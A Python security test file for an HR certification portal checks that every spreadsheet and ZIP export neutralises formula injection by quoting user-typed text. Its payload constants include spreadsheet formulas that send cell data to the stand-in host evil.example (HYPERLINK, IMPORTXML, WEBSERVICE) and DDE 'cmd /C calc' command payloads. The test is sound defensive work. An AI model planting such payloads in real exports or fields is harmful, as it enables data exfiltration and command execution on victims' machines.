"""Issue 16 item 6, T-PRIV-03: no spreadsheet the product hands out runs what a user typed.

Text typed by HR, applicants and uploaders that starts like a formula (= + - @, tab, CR) is put into every
field that reaches an export; then every export route of the url_map is downloaded and opened: no cell of
any workbook is a formula, every such text is a string cell with the quote prefix (shown and kept as
typed), and the CSV manifests inside package ZIPs carry it behind an apostrophe. A new export route fails
the enumeration until it is added here; a workbook made without the safe factory fails the source check.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from portal.documents import cells, certificates, notice_sheet, spreadsheets
from portal.models import StaffRole
from portal.services import audit, materials
from portal.services.submissions import new_token
from portal.storage.local import LocalStorage
from tests.conftest import Clock, run_queued
from tests.security.conftest import Tenant, store_where_the_app_reads

ROOT = Path(__file__).resolve().parents[2]

NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'  # the applicant's name
UNIT = "+cmd|' /C calc'!A0"  # the enterprise's name
SPECIALTY = "-2+3+cmd|' /C calc'!A0"
ACHIEVEMENTS = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "\t=1+1"  # the notice's title
LOCATION = "\r=1+1"
FILE_NAME = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a").pdf'
HANDLER = "-HR经办人"  # a name check_name accepts: letters and a leading hyphen
REASON = '=WEBSERVICE("http://evil.example")'
PAYLOADS = (NAME, UNIT, SPECIALTY, ACHIEVEMENTS, TITLE, LOCATION, FILE_NAME, HANDLER, REASON)


def test_what_counts_as_a_formula_start() -> None:
    starts = ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "正常", "1-2")
    assert [cells.starts_like_formula(v) for v in starts] == [True] * 6 + [False] * 2
    assert [cells.csv_cell(v) for v in ("=1+1", "-1", "正常", 5)] == ["'=1+1", "'-1", "正常", 5]


def _hostile(session: Session, tenant: Tenant, clock: Clock) -> None:
    """Formula-like text in every user-typed field that an export shows."""
    office = tenant.office
    office.org.name = UNIT
    office.handler.name = HANDLER
    for application in (tenant.application, tenant.certified, tenant.draft):
        application.applicant.name = NAME
        application.specialty = SPECIALTY
        application.achievements = ACHIEVEMENTS
    tenant.closed_notice.title = TITLE
    tenant.closed_notice.location = LOCATION
    tenant.material.file.display_name = FILE_NAME
    for material in materials.active_materials(session, tenant.application.id):
        material.file.display_name = FILE_NAME
    for scope in tenant.committee.committee.scopes:  # the committee's scope table, admin-edited text
        scope.specialties = SPECIALTY
    tenant.meeting.place = REASON  # a meeting's place and a committee call's title: the office's text
    tenant.call.title = TITLE
    tenant.expert.employer_name = REASON  # the pool's rows: what the office typed
    audit.record(
        session, office.actor(StaffRole.HANDLER), "note", clock.now, object_type="application",
        object_id=tenant.application.id, reason=REASON,
    )  # fmt: skip
    session.flush()


def _client(login_as: Callable[..., FlaskClient], tenant: Tenant, role: str) -> FlaskClient:
    user, membership_id = tenant.roles()[role]
    return login_as(user, membership_id=membership_id)


def _job_result(app: Flask, browser: FlaskClient, url: str, form: dict[str, Any]) -> str:
    """Start a background export (a POST), let the worker make it; the URL its file downloads from."""
    started = browser.post(url, data={**form, "form_token": new_token()})
    assert started.status_code == 303 and started.headers["Location"].startswith("/jobs/"), started.status
    run_queued(app)
    return started.headers["Location"] + "/download"


def _export_cases(tenant: Tenant) -> dict[str, tuple[str, str, str, bool]]:
    """endpoint -> (role, method, url, shows user text)."""
    a = tenant.application
    return {
        "enterprise.download_import_template": (
            "enterprise_handler", "GET", "/enterprise/applicants/import/template.xlsx", False,
        ),
        "notices.download_sheet_xlsx": (
            "enterprise_handler", "POST", f"/notices/{tenant.closed_notice.id}/sheet.xlsx", True,
        ),
        "review.export_queue": ("enterprise_handler", "POST", "/review/queue.xlsx?tab=all", True),
        "admin.export_audit_events": ("admin", "POST", "/admin/audit.xlsx", True),
        "packages.download_package_zip": (
            "bureau_handler", "POST", f"/packages/applications/{a.id}/package.zip", True,
        ),
        # The tenant has no 职称确认 line: the list's writer is table_xlsx, as the scopes' (checked above).
        "committees.export_confirmations": (
            "bureau_handler", "POST", "/committees/confirmations.xlsx?tab=all", False,
        ),
        "committees.export_scopes": (
            "bureau_handler", "GET", f"/committees/{tenant.committee.committee.id}/scopes.xlsx", True,
        ),
        "committees.certificate_template": (
            "bureau_handler", "GET", "/committees/certificates/template.xlsx", False,
        ),
        "committees.export_meetings": ("committee_handler", "GET", "/committees/meetings.xlsx", True),
        "committees.export_calls": ("committee_handler", "GET", "/committees/calls.xlsx", True),
        "committees.export_experts": ("committee_handler", "POST", "/committees/experts.xlsx", True),
        # The background exports' files (the certificate Excel, a batch ZIP): made by the worker, fetched
        # from their job's page (the URL is the job's, found when the case runs).
        "jobs.download_result": ("bureau_handler", "GET", "certificates", True),
    }  # fmt: skip


def _exports(app: Flask) -> set[str]:
    """Every route that answers with a spreadsheet, a CSV or an archive (which may hold CSV)."""
    return {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith((".xlsx", ".xls", ".csv", ".zip")) or rule.rule.endswith("/download")
    }


def _check_workbook(data: bytes, where: str) -> list[str]:
    """Asserts no formula and a quote prefix on every formula-like text; returns the texts found."""
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"{where}: formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                )
                if isinstance(cell.value, str) and cells.starts_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{where}: {cell.coordinate} unquoted"
                    found.append(cell.value)
    return found


def _check_zip(data: bytes, where: str) -> list[str]:
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8-sig")
                for row in csv.reader(io.StringIO(text)):
                    for field in row:
                        assert not cells.starts_like_formula(field), (
                            f"{where}/{name}: {field!r} unneutralised"
                        )
                        if field.startswith("'"):
                            found.append(field[1:])
            elif name.endswith((".xlsx", ".xls")):
                found += _check_workbook(archive.read(name), f"{where}/{name}")
    return found


def test_no_export_runs_user_text_as_a_formula(
    app: Flask,
    session: Session,
    clock: Clock,
    storage: LocalStorage,
    tenants: tuple[Tenant, Tenant],
    login_as: Any,
    queue: None,
) -> None:
    ours, _ = tenants
    store_where_the_app_reads(session, storage, ours.application, ours.draft)
    _hostile(session, ours, clock)
    cases = _export_cases(ours)
    assert _exports(app) == set(cases), "an export route without a formula-injection case: add it here"
    runs = [(endpoint, *case) for endpoint, case in cases.items()]
    runs.append(("jobs.download_result", "enterprise_handler", "GET", "batch", True))
    for endpoint, role, method, url, shows_text in runs:
        browser = _client(login_as, ours, role)
        if url == "certificates":
            url = _job_result(app, browser, "/certificates/exports", {})
        elif url == "batch":
            url = _job_result(app, browser, "/packages/batches", {"ids": [str(ours.application.id)]})
        response = browser.open(url, method=method)
        assert response.status_code == 200, (
            endpoint,
            response.status_code,
            re.findall(r"<main.*?</main>", response.text, re.S),
        )
        data = response.get_data()
        response.close()
        archive = url.endswith("zip") or response.mimetype == "application/zip"
        found = _check_zip(data, endpoint) if archive else _check_workbook(data, endpoint)
        if shows_text:
            assert set(found) & set(PAYLOADS), f"{endpoint}: none of the typed text reached the export"


def test_every_workbook_writer_quotes_formula_like_text(tmp_path: Path) -> None:
    """The writers themselves, including the first-password list (shown once, as a data: link)."""
    header = notice_sheet.SheetHeader(TITLE, UNIT, "2026年9月1日至9月7日", LOCATION, "-0797")
    row = notice_sheet.SheetRow(
        NAME, "护照", "3607**********1234", UNIT, "工程", "中级", "-本科", "+", "5", ACHIEVEMENTS
    )
    books = {
        "notice_sheet": notice_sheet.notice_sheet_xlsx(header, [row]),
        "passwords": spreadsheets.passwords_xlsx(
            [(HANDLER, "13800000000", "居民身份证", "3607**1234", "=Pa55word!")]
        ),
        "certificates": certificates.certificates_xlsx(
            [
                (
                    NAME,
                    "360702199001011234",
                    UNIT,
                    "工程",
                    SPECIALTY,
                    "中级",
                    "2026GZ1",
                    date(2026, 9, 1),
                    "-",
                    "",
                )
            ]
        ).read_bytes(),
        "table": certificates.table_xlsx("表", ("姓名", "单位"), [(NAME, UNIT), (REASON, 3)]).read_bytes(),
    }
    for where, data in books.items():
        found = _check_workbook(data, where)
        assert found, f"{where}: the formula-like text was not written"


def test_every_workbook_is_made_by_the_safe_factory() -> None:
    """xlsxwriter.Workbook is created in documents/cells.py only, with its guessing off."""
    makers = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "portal").rglob("*.py")
        if re.search(
            r"xlsxwriter\.Workbook\(|from xlsxwriter import Workbook", path.read_text(encoding="utf-8")
        )
    ]
    assert makers == ["portal/documents/cells.py"]
